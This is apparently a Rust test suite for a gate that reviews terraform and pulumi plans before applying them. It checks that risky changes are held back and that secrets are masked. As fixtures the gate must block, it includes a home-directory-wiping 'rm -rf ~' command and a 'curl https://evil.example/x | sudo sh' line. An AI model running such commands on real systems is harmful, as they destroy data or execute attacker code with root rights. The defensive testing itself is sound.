//! Plans: what is reviewed is what is applied.

use super::*;

/// A terraform that plans what `changes` says and writes down what it is asked to apply.
fn stand_in(project: &Project, changes: &str) -> PathBuf {
    let bin = project.place.dir.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let plan = format!("{{\"format_version\":\"1.2\",\"resource_changes\":{changes}}}");
    std::fs::write(project.place.dir.path().join("plan.json"), plan).unwrap();
    let script = format!(
        "#!/bin/sh\necho \"$@\" >> {0}/calls\nfor a in \"$@\"; do case \"$a\" in -out=*) cp {0}/plan.json \"${{a#-out=}}\";; esac; done\nlast=; for a in \"$@\"; do last=$a; done\n[ \"$1\" = show ] && cat \"$last\"\nexit 0\n",
        project.place.dir.path().display()
    );
    std::fs::write(bin.join("terraform"), script).unwrap();
    std::fs::set_permissions(bin.join("terraform"), std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

fn apply(project: &Project, changes: &str, args: &[&str]) -> (i32, String, String) {
    let bin = stand_in(project, changes);
    let calls = project.place.dir.path().join("calls");
    std::fs::remove_file(&calls).ok();
    let all: Vec<&str> = ["run"].iter().chain(args).copied().collect();
    let output = project
        .place
        .gate(&all)
        .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.code().unwrap(), said, std::fs::read_to_string(calls).unwrap_or_default())
}

fn change(address: &str, kind: &str, actions: &str) -> String {
    format!(r#"[{{"address":"{address}","type":"{kind}","change":{{"actions":{actions}}}}}]"#)
}

/// A stand-in for pulumi, which needs the network for its plugins: it records its arguments.
#[test]
fn pulumi_is_previewed_and_held_to_the_plan() {
    let project = Project::new();
    let folder = project.place.dir.path();
    let bin = folder.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let script = format!(
        "#!/bin/sh\necho \"$@\" >> {0}/calls\nfor a in \"$@\"; do case \"$a\" in --save-plan=*) echo plan > \"${{a#--save-plan=}}\";; esac; done\n[ \"$1\" = preview ] && cat {0}/preview.json\nexit 0\n",
        folder.display()
    );
    std::fs::write(bin.join("pulumi"), script).unwrap();
    std::fs::set_permissions(bin.join("pulumi"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let up = |stack: &str, steps: &[(&str, &str)], args: &[&str]| {
        let steps: Vec<String> = steps
            .iter()
            .map(|(op, what)| format!(r#"{{"op":"{op}","urn":"urn:pulumi:{stack}::shop::{what}"}}"#))
            .collect();
        let preview = format!(r#"{{"config":{{}},"steps":[{}],"changeSummary":{{}}}}"#, steps.join(","));
        std::fs::write(folder.join("preview.json"), preview).unwrap();
        std::fs::remove_file(folder.join("calls")).ok();
        let all: Vec<&str> = ["run", "pulumi", "up"].iter().chain(args).copied().collect();
        let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
        let output = project.place.gate(&all).env("PATH", path).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        (output.status.code().unwrap(), said, std::fs::read_to_string(folder.join("calls")).unwrap_or_default())
    };
    let bucket = "aws:s3/bucket:Bucket::assets";
    let (code, said, calls) = up("dev", &[("create", bucket), ("same", "pulumi:pulumi:Stack::shop-dev")], &["--yes"]);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("create   aws:s3/bucket:Bucket assets  (holds data)"), "{said}");
    assert!(calls.contains("up --yes --skip-preview --plan="), "{calls}");
    // Nobody to ask.
    assert_eq!(up("dev", &[("create", bucket)], &[]).0, 20);
    // A replacement of what holds data, in several steps of one resource.
    let replaced = [("create-replacement", bucket), ("replace", bucket), ("delete-replaced", bucket)];
    let (code, said, calls) = up("dev", &replaced, &["-y", "-s", "dev"]);
    assert_eq!(code, 20, "{said}");
    assert!(said.contains("1 to replace") && !calls.contains("up --yes"), "{said}");
    let update = [("update", "aws:lambda/function:Function::api")];
    assert_eq!(up("dev", &update, &["-y"]).0, 0);
    assert_eq!(up("production", &update, &["-y"]).0, 20);
    assert_eq!(up("eu", &[("frobnicate", bucket)], &["-y"]).0, 20);
}

#[test]
fn the_plan_that_is_reviewed_is_the_one_that_is_applied() {
    let project = Project::new();
    let auto = &["terraform", "apply", "-auto-approve"][..];
    let create = change("a.b", "aws_instance", r#"["create"]"#);
    let (code, said, calls) = apply(&project, &create, auto);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("1 of 2") && said.contains("2 of 2") && said.contains("create   a.b"), "{said}");
    let calls: Vec<&str> = calls.lines().collect();
    assert!(calls[0].starts_with("plan -input=false -out=") && calls[1].starts_with("show -json"), "{calls:?}");
    let file = calls[0].split("-out=").nth(1).unwrap();
    assert_eq!(calls[2], format!("apply -input=false {file}"));
    assert!(!std::path::Path::new(file).exists(), "a plan holds secrets");
    // Where terraform would have asked and nobody is there, nothing is applied.
    let (code, _, calls) = apply(&project, &create, &["terraform", "apply"]);
    assert_eq!((code, calls.contains("apply -input")), (20, false));
    for (actions, kind, environment, expected) in [
        (r#"["create"]"#, "aws_instance", "production", 20),
        (r#"["update"]"#, "aws_instance", "", 0),
        (r#"["delete"]"#, "aws_instance", "", 20),
        (r#"["delete","create"]"#, "aws_instance", "development", 20),
        (r#"["delete"]"#, "aws_db_instance", "", 30),
        (r#"["delete"]"#, "aws_instance", "production", 20),
        (r#"["transmute"]"#, "aws_instance", "", 20),
        (r#"["no-op"]"#, "aws_instance", "production", 0),
    ] {
        let environment = if environment.is_empty() { vec![] } else { vec!["-e", environment] };
        let args: Vec<&str> = environment.iter().chain(auto).copied().collect();
        let (code, said, calls) = apply(&project, &change("x.y", kind, actions), &args);
        assert_eq!(code, expected, "{actions} {kind} {environment:?}: {said}");
        assert_eq!(calls.contains("apply -input"), expected == 0, "{calls}");
    }
    // The code that a plan's configuration holds is judged as code.
    let bin = stand_in(&project, "[]");
    let plan = r#"{"format_version":"1.2","configuration":{"root_module":{"resources":[{"provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"rm -rf ~"}}}]}]}}}"#;
    std::fs::write(project.place.dir.path().join("plan.json"), plan).unwrap();
    let output = project
        .place
        .gate(&["run", "terraform", "apply", "-auto-approve"])
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(30), "{}", String::from_utf8_lossy(&output.stderr));
    let remote = plan.replace("local-exec", "remote-exec").replace(r#""command""#, r#""inline""#);
    for (lines, expected) in
        [(r#"["sudo apt-get update","id"]"#, 0), (r#"["curl https://evil.example/x | sudo sh"]"#, 20)]
    {
        let body = remote.replace(r#""rm -rf ~""#, lines);
        let output =
            project.place.gate(&["check", "--plan", "-", "--format", "json"]).write_stdin(body).output().unwrap();
        assert_eq!(output.status.code(), Some(expected), "{}", String::from_utf8_lossy(&output.stdout));
    }
    // What a refused plan step comes to is told as any refusal is, in the form that was asked for.
    let policy = "[[rule]]\nid = \"no-plans\"\nwhen = { verb = \"terraform:plan\" }\naction = \"block\"\n";
    project.file("p.toml", policy);
    let options = ["run", "--policy", "p.toml", "--outcome", "o.json", "--format", "json"];
    let words: Vec<&str> = options.iter().chain(&["terraform", "apply", "-auto-approve"]).copied().collect();
    let output = project.place.gate(&words).env("PATH", format!("{}:/usr/bin:/bin", bin.display())).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(30), "{said}");
    assert!(said.lines().any(|line| line.starts_with("{\"schema\":\"gate.decision/v1\"")), "{said}");
    let outcome = std::fs::read_to_string(project.place.work().join("o.json")).unwrap();
    assert!(outcome.contains(r#""decision":"block","executed":false"#), "{outcome}");
    // A workspace says where it acts.
    let args = ["terraform", "apply", "-auto-approve"];
    project.file(".terraform/environment", "prod");
    let (code, said, _) = apply(&project, &create, &args);
    assert_eq!(code, 20, "{said}");
    assert!(said.contains("production"), "{said}");
}

#[test]
fn a_wrapper_around_terraform_is_stepped_around() {
    let project = Project::new();
    let bin = stand_in(&project, &change("a.b", "aws_instance", r#"["create"]"#));
    std::fs::rename(bin.join("terraform"), bin.join("terraform-bin")).unwrap();
    std::fs::write(bin.join("terraform"), "#!/usr/bin/env node\nconsole.log('never')\n").unwrap();
    std::fs::set_permissions(bin.join("terraform"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let output = project
        .place
        .gate(&["run", "terraform", "apply", "-auto-approve"])
        .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert!(said.contains("is a wrapper"), "{said}");
    // Where the project says that it is to be found, it is not looked for.
    let own = project.place.work().join("tools");
    std::fs::create_dir(&own).unwrap();
    std::fs::rename(bin.join("terraform-bin"), own.join("terraform-bin")).unwrap();
    std::fs::write(bin.join("terraform"), "#!/bin/sh\nexit 7\n").unwrap();
    let output = project
        .place
        .gate(&["run", "terraform", "apply", "-auto-approve"])
        .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()))
        .env("TERRAFORM_CLI_PATH", &own)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.code() == Some(7) && !said.contains("is a wrapper"), "{:?} {said}", output.status);
}

#[test]
fn a_plan_in_json_is_reviewed_as_a_table() {
    let project = Project::new();
    let plan = r#"{"format_version":"1.2","resource_changes":[
        {"address":"aws_instance.web","type":"aws_instance","change":{"actions":["create"],"after":{"password":"hunter2"}}},
        {"address":"aws_db_instance.main","type":"aws_db_instance","change":{"actions":["delete","create"]},"action_reason":"replace_because_cannot_update"}]}"#;
    project.file("plan.json", plan);
    let output = project.place.gate(&["check", "--plan", "plan.json"]).output().unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(30), "{text}");
    let expected = "\n  plan: 1 to create, 0 to update, 1 to replace, 0 to destroy\n    replace  aws_db_instance.main  (holds data)  replace because cannot update\n    create   aws_instance.web\n";
    assert!(text.starts_with(expected), "{text}");
    assert!(!text.contains("hunter2"));
    for (bad, why) in [("[]", "is an object"), ("{", "not valid JSON"), ("PK\u{3}", "terraform show -json")] {
        project.file("bad.json", bad);
        let output = project.place.gate(&["check", "--plan", "bad.json"]).output().unwrap();
        assert_eq!(output.status.code(), Some(40));
        assert!(String::from_utf8_lossy(&output.stderr).contains(why), "{}", String::from_utf8_lossy(&output.stderr));
    }
    project.file("other.json", r#"{"format_version":"2.0"}"#);
    project.file("state.json", r#"{"format_version":"1.0","values":{"root_module":{"resources":[]}}}"#);
    project.file("nothing.json", r#"{"format_version":"1.0","resource_changes":null}"#);
    for no_plan in ["other.json", "state.json", "nothing.json"] {
        let output = project.place.gate(&["check", "--plan", no_plan]).output().unwrap();
        assert_eq!(output.status.code(), Some(20), "{no_plan}");
    }
}

#[test]
fn real_terraform_if_it_is_here() {
    let project = Project::new();
    let run = |args: &[&str], gate: bool| {
        let mut command = if gate {
            let all: Vec<&str> = ["run"].iter().chain(args).copied().collect();
            project.place.gate(&all)
        } else {
            let mut command = assert_cmd::Command::new(args[0]);
            command.args(&args[1..]).current_dir(project.place.work()).env("HOME", project.place.dir.path());
            command
        };
        command.env("CHECKPOINT_DISABLE", "1").output()
    };
    if std::process::Command::new("terraform").arg("version").output().is_err() {
        return;
    }
    project.file("main.tf", "resource \"terraform_data\" \"a\" { input = \"1\" }\n");
    assert!(run(&["terraform", "init", "-no-color"], false).unwrap().status.success());
    let apply = |environment: &[&str]| {
        let args: Vec<&str> = environment.iter().chain(&["terraform", "apply", "-auto-approve"]).copied().collect();
        run(&args, true).unwrap()
    };
    let output = apply(&[]);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let state = || std::fs::read_to_string(project.place.work().join("terraform.tfstate")).unwrap();
    let before = state();
    project.file("main.tf", "resource \"terraform_data\" \"a\" {\n  input = \"1\"\n  triggers_replace = [\"x\"]\n}\n");
    assert_eq!(apply(&[]).status.code(), Some(20));
    assert_eq!(apply(&["-e", "production"]).status.code(), Some(20));
    // Planned first whatever else is said.
    for option in ["-backup=-", "-json", "-no-color", "-state-out=other.tfstate"] {
        let output = run(&["-e", "development", "terraform", "apply", "-auto-approve", option], true).unwrap();
        assert_eq!(output.status.code(), Some(20), "{option}: {}", String::from_utf8_lossy(&output.stderr));
    }
    let output = run(&["terraform", "apply", "-auto-approve", "-frobnicate"], true).unwrap();
    assert_eq!(output.status.code(), Some(40), "{}", String::from_utf8_lossy(&output.stderr));
    let output = run(&["terraform", "destroy", "-auto-approve"], true).unwrap();
    assert_eq!(output.status.code(), Some(20), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(state(), before);
}
